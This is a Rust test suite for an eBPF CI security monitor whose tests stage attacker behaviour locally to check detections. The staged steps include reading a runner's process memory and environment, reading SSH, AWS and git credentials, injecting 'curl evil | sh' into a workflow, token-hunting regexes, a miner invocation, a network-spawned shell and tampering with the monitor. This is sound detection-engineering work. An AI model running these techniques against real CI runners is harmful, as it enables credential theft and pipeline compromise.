//! The CI-specific signatures of the default pack (VGL-0050..), each doing its real thing under
//! real eBPF — and the nearest honest behaviour, which must stay quiet. Everything happens in
//! the test's scratch directory, /tmp or /dev/shm, and is removed afterwards.

use std::{path::Path, process::Command};

use serde_json::Value;

use crate::harness::*;

fn sh(cmd: &str) {
    let status = Command::new("sh").args(["-c", cmd]).status().unwrap();
    assert!(status.success(), "setup failed: {cmd}");
}

fn severities(found: &[&Value]) -> Vec<String> {
    found
        .iter()
        .map(|f| f["severity"].as_str().unwrap().to_string())
        .collect()
}

/// The tj-actions pattern: a step reads the runner's environment and memory.
const READ_PARENT: &str = r#"
import ctypes, os
runner = os.getppid()
open(f"/proc/{runner}/environ", "rb").read()
with open(f"/proc/{runner}/maps") as maps:
    start = next(int(l.split("-")[0], 16) for l in maps if l.split()[1].startswith("r"))
with open(f"/proc/{runner}/mem", "rb") as mem:
    mem.seek(start)
    assert len(mem.read(64)) == 64
class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
buf = ctypes.create_string_buffer(64)
local, remote = IoVec(ctypes.addressof(buf), 64), IoVec(start, 64)
libc = ctypes.CDLL(None, use_errno=True)
got = libc.process_vm_readv(runner, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
assert got == 64, ctypes.get_errno()
print("read-the-runner")
"#;

/// Runs the Python `script` as a step of a stand-in for the GitHub runner (a shell whose
/// executable is named Runner.Worker), which the script reads; the step must really read it,
/// and be found.
fn read_the_runner(name: &str, script: &str) -> Run {
    let dir = scratch(&format!("{name}-setup"));
    let runner = dir.join("Runner.Worker");
    std::fs::copy("/bin/bash", &runner).unwrap();
    let step = format!("python3 -c '{script}'; true");
    let run = vigil_run(name, &[], &[runner.to_str().unwrap(), "-c", &step]);
    assert!(
        run.stdout.contains("read-the-runner"),
        "the step really read"
    );
    assert_eq!(run.code, EXIT_FINDING);
    run
}

#[test]
fn pack_ci_runner_environment_and_memory_read() {
    if !privileged() {
        return;
    }
    let run = read_the_runner("pack-ci-runner-read", READ_PARENT);
    let found = by_signature(&run.findings, "VGL-0050");
    let mut reads = evidence(&found, "read");
    reads.sort();
    assert_eq!(reads, ["environ", "mem", "memory"], "{found:#?}");
    assert!(severities(&found).iter().all(|s| s == "critical"));
    assert!(evidence(&found, "target_comm")
        .iter()
        .all(|c| *c == "Runner.Worker"));
    assert!(found.iter().all(|f| f["process"]["comm"] == "python3"));
}

/// The same reads spelled roundabout (`//`, `.`, `..`): the kernel must not drop them as paths
/// no signature wants, and signatures see them as the paths they are.
const READ_PARENT_ROUNDABOUT: &str = r#"
import os
runner = os.getppid()
open(f"/proc//{runner}/./environ", "rb").read()
with open(f"/proc/self/../{runner}/maps") as maps:
    start = next(int(l.split("-")[0], 16) for l in maps if l.split()[1].startswith("r"))
with open(f"/proc/{runner}/task/../mem", "rb") as mem:
    mem.seek(start)
    assert len(mem.read(64)) == 64
print("read-the-runner")
"#;

#[test]
fn pack_ci_runner_read_through_roundabout_paths_is_found() {
    if !privileged() {
        return;
    }
    let run = read_the_runner("pack-ci-roundabout", READ_PARENT_ROUNDABOUT);
    let found = by_signature(&run.findings, "VGL-0050");
    let mut reads = evidence(&found, "read");
    reads.sort();
    assert_eq!(reads, ["environ", "mem"], "{found:#?}");
    for finding in &found {
        let path = finding["event"]["path"].as_str().unwrap();
        let pid = finding["evidence"]["target_pid"].as_str().unwrap();
        let read = finding["evidence"]["read"].as_str().unwrap();
        assert_eq!(path, format!("/proc/{pid}/{read}"), "{finding:#?}");
    }
}

/// The layout on a real runner: the runner starts a shell, which starts `vigil run`, which
/// starts the step. The runner is above the watched tree, and still named as the target.
#[test]
fn pack_ci_runner_above_vigil_is_named() {
    if !privileged() {
        return;
    }
    let dir = scratch("pack-ci-runner-above");
    let runner = dir.join("Runner.Worker");
    std::fs::copy("/bin/bash", &runner).unwrap();
    let findings = dir.join("findings.jsonl");
    let step = r#"import os; open("/proc/" + os.environ["RUNNER_PID"] + "/environ", "rb").read()"#;
    // `; true`: the shell must fork vigil rather than become it.
    let script = format!(
        "RUNNER_PID=$$ {} run --findings {} -- python3 -c '{step}'; true",
        env!("CARGO_BIN_EXE_vigil"),
        findings.display()
    );
    let out = Command::new(&runner)
        .args(["-c", &script])
        .output()
        .unwrap();
    eprintln!("{}", String::from_utf8_lossy(&out.stderr));
    let found: Vec<Value> = std::fs::read_to_string(&findings)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let found = by_signature(&found, "VGL-0050");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0]["severity"], "critical");
    assert_eq!(found[0]["evidence"]["target_comm"], "Runner.Worker");
    assert_eq!(found[0]["evidence"]["read"], "environ");
}

#[test]
fn pack_ci_own_environment_and_ps_are_quiet() {
    if !privileged() {
        return;
    }
    let run = vigil_run(
        "pack-ci-own-read",
        &[],
        &[
            "sh",
            "-c",
            r#"python3 -c 'import os; open("/proc/self/environ").read(); open(f"/proc/{os.getpid()}/environ").read(); open(f"/proc/{os.getppid()}/cmdline").read(); open(f"/proc/{os.getppid()}/status").read()'; ps -ef > /dev/null; ps aux > /dev/null; true"#,
        ],
    );
    assert_eq!(run.code, 0);
    assert!(
        by_signature(&run.findings, "VGL-0050").is_empty(),
        "{:#?}",
        run.findings
    );
}

/// A checkout as actions/checkout leaves it (token in .git/config) and a home with keys.
fn secrets(dir: &Path) {
    let d = dir.display();
    sh(&format!(
        "set -e; cd {d}; git init -q repo; \
         git -C repo config http.https://github.com/.extraheader 'AUTHORIZATION: basic dmlnaWw6ZmFrZQ=='; \
         mkdir -p home/.ssh home/.aws; ssh-keygen -q -t ed25519 -N '' -f home/.ssh/id_ed25519; \
         printf '[default]\\naws_access_key_id = AKIAFAKE\\n' > home/.aws/credentials"
    ));
}

#[test]
fn pack_ci_credential_files_read_by_a_stranger() {
    if !privileged() {
        return;
    }
    let dir = scratch("pack-ci-creds-setup");
    secrets(&dir);
    let d = dir.display();
    let cmd = format!(
        "cat {d}/repo/.git/config > /dev/null; cat {d}/home/.ssh/id_ed25519 > /dev/null; \
         python3 -c 'open(\"{d}/home/.aws/credentials\").read()'"
    );
    let run = vigil_run("pack-ci-creds", &[], &["sh", "-c", &cmd]);
    assert_eq!(run.code, EXIT_FINDING);
    let found = by_signature(&run.findings, "VGL-0051");
    let paths = evidence(&found, "path");
    assert_eq!(
        paths,
        [
            format!("{d}/repo/.git/config"),
            format!("{d}/home/.ssh/id_ed25519"),
            format!("{d}/home/.aws/credentials"),
        ],
        "{found:#?}"
    );
    assert_eq!(severities(&found), ["medium", "high", "high"]);
    let _ = std::fs::remove_dir_all(&dir);
}

/// The same reads spelled with `//`, `.` and `..`: the kernel's filter would drop two of these
/// as written, and signatures match the paths they name.
#[test]
fn pack_ci_credential_files_read_through_roundabout_paths() {
    if !privileged() {
        return;
    }
    let dir = scratch("pack-ci-creds-roundabout-setup");
    secrets(&dir);
    let d = dir.display();
    let cmd = format!(
        "cat {d}/home/.ssh//id_ed25519 > /dev/null; cat {d}/home/.aws/./credentials > /dev/null; \
         cat {d}/repo/.git/hooks/../config > /dev/null"
    );
    let run = vigil_run("pack-ci-creds-roundabout", &[], &["sh", "-c", &cmd]);
    expect_the_three_credential_reads(&run, &dir);
}

/// The reads (roundabout, or through magic links) of an SSH key, AWS credentials and a checkout's git config
/// were each found, under the paths they reach.
fn expect_the_three_credential_reads(run: &Run, dir: &Path) {
    assert_eq!(run.code, EXIT_FINDING, "{}", run.stderr);
    let found = by_signature(&run.findings, "VGL-0051");
    let d = dir.display();
    assert_eq!(
        evidence(&found, "path"),
        [
            format!("{d}/home/.ssh/id_ed25519"),
            format!("{d}/home/.aws/credentials"),
            format!("{d}/repo/.git/config"),
        ],
        "{found:#?}"
    );
    let _ = std::fs::remove_dir_all(dir);
}

/// The same reads through the kernel's magic links: the reader's root, its cwd and a
/// directory it holds open (`/dev/fd/N`). The kernel must keep these opens, and signatures see
/// the files they reach.
#[test]
fn pack_ci_credential_files_read_through_magic_links() {
    if !privileged() {
        return;
    }
    let dir = scratch("pack-ci-creds-magic-setup");
    secrets(&dir);
    let d = dir.display();
    let script = dir.join("through-fd.py");
    std::fs::write(
        &script,
        format!(
            "import os\ng = os.open('{d}/repo/.git', os.O_RDONLY | os.O_DIRECTORY)\n\
             os.close(os.open(f'/dev/fd/{{g}}/config', os.O_RDONLY))\n"
        ),
    )
    .unwrap();
    // /dev/fd is made by udev or an init system, which a test kernel's guest may not have:
    // the script gets its own /dev with that link.
    let cmd = format!(
        "cat /proc/self/root{d}/home/.ssh/id_ed25519 > /dev/null; \
         cd {d}/home/.aws && cat /proc/self/cwd/credentials > /dev/null; \
         unshare --mount --propagation private sh -c 'mount -t tmpfs vigil-e2e /dev && \
         ln -s /proc/self/fd /dev/fd && python3 {}'",
        script.display()
    );
    let run = vigil_run("pack-ci-creds-magic", &[], &["sh", "-c", &cmd]);
    expect_the_three_credential_reads(&run, &dir);
}

#[test]
fn pack_ci_credential_owners_are_quiet() {
    if !privileged() {
        return;
    }
    let dir = scratch("pack-ci-creds-owners-setup");
    secrets(&dir);
    let d = dir.display();
    let cmd = format!(
        "set -e; git -C {d}/repo config --get http.https://github.com/.extraheader > /dev/null; \
         git -C {d}/repo status --short; ssh-keygen -y -f {d}/home/.ssh/id_ed25519 > /dev/null; \
         cat {d}/home/.ssh/id_ed25519.pub > /dev/null"
    );
    let run = vigil_run("pack-ci-creds-owners", &[], &["sh", "-c", &cmd]);
    assert_eq!(run.code, 0, "{:#?}", run.findings);
    assert!(by_signature(&run.findings, "VGL-0051").is_empty());
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn pack_ci_workflow_and_hook_written_by_a_step() {
    if !privileged() {
        return;
    }
    let dir = scratch("pack-ci-workflow-setup");
    let d = dir.display();
    sh(&format!(
        "set -e; cd {d}; git init -q repo; mkdir -p repo/.github/workflows; \
         echo 'on: push' > repo/.github/workflows/ci.yml"
    ));
    let cmd = format!(
        "echo '  - run: curl evil | sh' >> {d}/repo/.github/workflows/ci.yml; \
         printf '#!/bin/sh\\ntrue\\n' > {d}/repo/.git/hooks/pre-commit; \
         chmod +x {d}/repo/.git/hooks/pre-commit"
    );
    let run = vigil_run("pack-ci-workflow", &[], &["sh", "-c", &cmd]);
    assert_eq!(run.code, EXIT_FINDING);
    let found = by_signature(&run.findings, "VGL-0052");
    assert_eq!(
        evidence(&found, "path"),
        [
            format!("{d}/repo/.github/workflows/ci.yml"),
            format!("{d}/repo/.git/hooks/pre-commit"),
            format!("{d}/repo/.git/hooks/pre-commit"),
        ],
        "{found:#?}"
    );
    assert_eq!(
        evidence(&found, "operation"),
        ["wrote", "wrote", "changed the mode of"]
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn pack_ci_git_writing_its_own_files_is_quiet() {
    if !privileged() {
        return;
    }
    let dir = scratch("pack-ci-git-setup");
    let d = dir.display();
    sh(&format!(
        "set -e; cd {d}; git init -q -b main src; mkdir -p src/.github/workflows; \
         echo 'on: push' > src/.github/workflows/ci.yml; git -C src add .; \
         git -C src -c user.name=ci -c user.email=ci@example.invalid commit -q -m one; \
         echo 'on: [push, pull_request]' > src/.github/workflows/ci.yml; \
         git -C src -c user.name=ci -c user.email=ci@example.invalid commit -q -am two"
    ));
    // git writes workflows (checkout) and hooks (init, clone): its own files.
    let cmd = format!(
        "set -e; cd {d}; git clone -q file://{d}/src clone; git init -q fresh; \
         git -C clone checkout -q HEAD~1; git -C clone checkout -q main; \
         cat clone/.github/workflows/ci.yml"
    );
    let run = vigil_run("pack-ci-git", &[], &["sh", "-c", &cmd]);
    assert!(run.stdout.contains("pull_request"), "the clone was updated");
    assert!(
        by_signature(&run.findings, "VGL-0052").is_empty(),
        "{:#?}",
        run.findings
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn pack_ci_dropped_executables_run_from_tmp_and_hidden_dirs() {
    if !privileged() {
        return;
    }
    let tmp = format!("/tmp/vigil-e2e-drop-{}", std::process::id());
    let shm = format!("/dev/shm/.vigil-e2e-{}", std::process::id());
    let cmd = format!(
        "curl -sf file:///bin/true -o {tmp} && chmod +x {tmp} && {tmp} && \
         python3 -c 'open(\"{shm}\", \"wb\").write(open(\"/bin/true\", \"rb\").read())' && \
         chmod +x {shm} && {shm} && echo dropped-and-ran; rm -f {tmp} {shm}"
    );
    let run = vigil_run("pack-ci-drop", &[], &["sh", "-c", &cmd]);
    assert!(run.stdout.contains("dropped-and-ran"));
    assert_eq!(run.code, EXIT_FINDING);
    let found = by_signature(&run.findings, "VGL-0053");
    assert_eq!(
        evidence(&found, "path"),
        [tmp.as_str(), shm.as_str()],
        "{found:#?}"
    );
    let droppers: Vec<&str> = evidence(&found, "dropped_by")
        .into_iter()
        .map(|e| e.rsplit('/').next().unwrap())
        .collect();
    assert!(
        droppers[0] == "curl" && droppers[1].starts_with("python3"),
        "{droppers:?}"
    );
    assert_eq!(severities(&found), ["high", "high"]);
}

#[test]
fn pack_ci_compiled_and_preexisting_executables_in_tmp_are_quiet() {
    if !privileged() {
        return;
    }
    let dir = format!("/tmp/vigil-e2e-build-{}", std::process::id());
    sh(&format!(
        "set -e; mkdir -p {dir}; cp /bin/true {dir}/preexisting; \
         printf 'int main(void){{return 0;}}\\n' > {dir}/m.c"
    ));
    let cmd = format!(
        "set -e; cd {dir}; gcc -o .hidden-test m.c; ./.hidden-test; cc -o out m.c; {dir}/out; \
         {dir}/preexisting; echo built-and-ran"
    );
    let run = vigil_run("pack-ci-drop-honest", &[], &["sh", "-c", &cmd]);
    let _ = std::fs::remove_dir_all(&dir);
    assert!(run.stdout.contains("built-and-ran"));
    assert!(by_signature(&run.findings, "VGL-0053").is_empty());
    // A hidden name made executable is VGL-0014's (hidden executable) business, and only that.
    assert!(
        run.findings
            .iter()
            .all(|f| f["signature"]["id"] == "VGL-0014"),
        "{:#?}",
        run.findings
    );
    assert_eq!(by_signature(&run.findings, "VGL-0014").len(), 1);
}

#[test]
fn pack_ci_grepping_for_tokens() {
    if !privileged() {
        return;
    }
    let dir = scratch("pack-ci-tokens-setup");
    let d = dir.display();
    std::fs::write(
        dir.join("dump.txt"),
        r#"{"GH_TOKEN":{"value":"ghp_000000000000000000000000000000000000","isSecret":true}}"#,
    )
    .unwrap();
    let cmd = format!(
        r#"grep -rhoE 'gh[pousr]_[A-Za-z0-9]{{36}}' {d} && grep -aoE '"[^"]+":\{{"value":"[^"]*","isSecret":true\}}' {d}/dump.txt > /dev/null && echo hunted"#
    );
    let run = vigil_run("pack-ci-tokens", &[], &["sh", "-c", &cmd]);
    assert!(run.stdout.contains("hunted") && run.stdout.contains("ghp_000"));
    assert_eq!(run.code, EXIT_FINDING);
    let found = by_signature(&run.findings, "VGL-0054");
    assert_eq!(
        evidence(&found, "marker"),
        ["gh[pousr]", "issecret"],
        "{found:#?}"
    );
    assert_eq!(severities(&found), ["high", "high"]);

    let honest = format!(
        "grep -rn TODO {d} ; grep -c value {d}/dump.txt; sed -n 1p {d}/dump.txt > /dev/null"
    );
    let run = vigil_run("pack-ci-tokens-honest", &[], &["sh", "-c", &honest]);
    assert_eq!(run.code, 0, "{:#?}", run.findings);
    assert!(by_signature(&run.findings, "VGL-0054").is_empty());
    let _ = std::fs::remove_dir_all(&dir);
}

/// Sends one DNS query for `name` to 127.0.0.1:53 (nobody needs to answer).
fn dns_query(name: &str) -> String {
    format!(
        r#"python3 -c '
import socket, struct
q = struct.pack(">HHHHHH", 0x5647, 0x0100, 1, 0, 0, 0)
q += b"".join(bytes([len(l)]) + l.encode() for l in "{name}".split(".")) + b"\0" + struct.pack(">HH", 1, 1)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ("127.0.0.1", 53))
'"#
    )
}

#[test]
fn pack_ci_crypto_mining_signs() {
    if !privileged() {
        return;
    }
    let dir = scratch("pack-ci-mining-setup");
    let miner = dir.join("xmrig");
    std::fs::copy("/bin/true", &miner).unwrap();
    let cmd = format!(
        "{} && {} -o stratum+tcp://127.0.0.1:3333 && \
         python3 -c 'import socket; socket.socket().connect_ex((\"127.0.0.1\", 3333))'; echo mined",
        dns_query("pool.supportxmr.com"),
        miner.display()
    );
    let run = vigil_run("pack-ci-mining", &[], &["sh", "-c", &cmd]);
    assert!(run.stdout.contains("mined"));
    assert_eq!(run.code, EXIT_FINDING);
    let found = by_signature(&run.findings, "VGL-0055");
    assert_eq!(
        evidence(&found, "sign"),
        [
            // The shell whose script starts the miner with the pool URL.
            "stratum URL",
            "pool DNS name",
            "miner program",
            "stratum port only (also used by test servers)"
        ],
        "{found:#?}"
    );
    assert_eq!(severities(&found), ["high", "high", "high", "low"]);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn pack_ci_ordinary_lookups_and_connections_are_not_mining() {
    if !privileged() {
        return;
    }
    let listener = Listener::start("hello\n");
    let cmd = format!(
        "{} && python3 -c 'import socket; c = socket.create_connection((\"127.0.0.1\", {})); c.recv(6)'",
        dns_query("github.com"),
        listener.port
    );
    let run = vigil_run("pack-ci-mining-honest", &[], &["sh", "-c", &cmd]);
    listener.transcript();
    assert_eq!(run.code, 0, "{:#?}", run.findings);
    assert!(by_signature(&run.findings, "VGL-0055").is_empty());
}

/// A server that accepts one connection from itself, then runs a shell command, as a web
/// shell or bind shell does. `host` is where it binds.
fn serving_shell(host: &str) -> String {
    format!(
        r#"python3 -c '
import socket, subprocess
s = socket.socket()
s.bind(("{host}", 0))
s.listen(1)
c = socket.create_connection(("127.0.0.1", s.getsockname()[1]))
conn, peer = s.accept()
subprocess.run(["sh", "-c", "echo shell-from-server"], check=True)
'"#
    )
}

#[test]
fn pack_ci_shell_started_by_a_network_service() {
    if !privileged() {
        return;
    }
    // Bound to every address — inside a network namespace of its own, which has only lo.
    let cmd = format!("ip link set lo up && {}", serving_shell("0.0.0.0"));
    let run = vigil_run(
        "pack-ci-service-shell",
        &[],
        &["unshare", "--net", "sh", "-c", &cmd],
    );
    assert!(run.stdout.contains("shell-from-server"));
    assert_eq!(run.code, EXIT_FINDING);
    let found = by_signature(&run.findings, "VGL-0056");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0]["severity"], "high");
    assert_eq!(found[0]["evidence"]["exposure"], "network");
    assert!(found[0]["evidence"]["server_comm"]
        .as_str()
        .unwrap()
        .starts_with("python3"));
}

#[test]
fn pack_ci_loopback_servers_and_clients_starting_shells_are_not_high() {
    if !privileged() {
        return;
    }
    // A loopback test server running a shell: low, never failing the build; a make-like
    // parent running shells: nothing.
    let cmd = format!(
        "{} && python3 -c 'import subprocess; subprocess.run([\"sh\", \"-c\", \"true\"])'",
        serving_shell("127.0.0.1")
    );
    let run = vigil_run("pack-ci-service-shell-honest", &[], &["sh", "-c", &cmd]);
    assert!(run.stdout.contains("shell-from-server"));
    assert_eq!(run.code, 0, "{:#?}", run.findings);
    let found = by_signature(&run.findings, "VGL-0056");
    assert_eq!(severities(&found), ["low"], "{found:#?}");
    assert_eq!(found[0]["evidence"]["exposure"], "loopback only");
}

#[test]
fn pack_ci_tampering_with_vigil() {
    if !privileged() {
        return;
    }
    let name = "pack-ci-tamper";
    // Where vigil_run writes this run's findings.
    let findings = scratch_root()
        .join(format!("{name}-{}", std::process::id()))
        .join("findings.jsonl");
    // $PPID of the watched root is Vigil. Stopped and resumed at once; the findings file is
    // opened for appending without writing; the BPF load is refused (no program given).
    let cmd = format!(
        "kill -STOP $PPID; kill -CONT $PPID; : >> {}; \
         python3 -c 'import ctypes; ctypes.CDLL(None).syscall(321, 5, None, 0)'; echo tampered",
        findings.display()
    );
    let run = vigil_run(name, &[], &["sh", "-c", &cmd]);
    assert!(run.stdout.contains("tampered"));
    assert_eq!(run.code, EXIT_FINDING);
    let found = by_signature(&run.findings, "VGL-0057");
    let summaries: Vec<&str> = found
        .iter()
        .map(|f| f["summary"].as_str().unwrap())
        .collect();
    assert_eq!(found.len(), 4, "{summaries:#?}");
    assert_eq!(evidence(&found, "signal")[..2], ["19", "18"]);
    assert_eq!(evidence(&found, "path")[2], findings.display().to_string());
    assert!(summaries[3].contains("loaded a BPF program"));
    assert_eq!(
        severities(&found),
        ["critical", "critical", "critical", "high"]
    );
}

#[test]
fn pack_ci_signals_within_the_job_are_not_tampering() {
    if !privileged() {
        return;
    }
    let run = vigil_run(
        "pack-ci-tamper-honest",
        &[],
        &[
            "sh",
            "-c",
            "sleep 30 & kill -TERM $!; wait; kill -0 $$; echo done",
        ],
    );
    assert!(run.stdout.contains("done"));
    assert_eq!(run.code, 0, "{:#?}", run.findings);
    assert!(by_signature(&run.findings, "VGL-0057").is_empty());
}
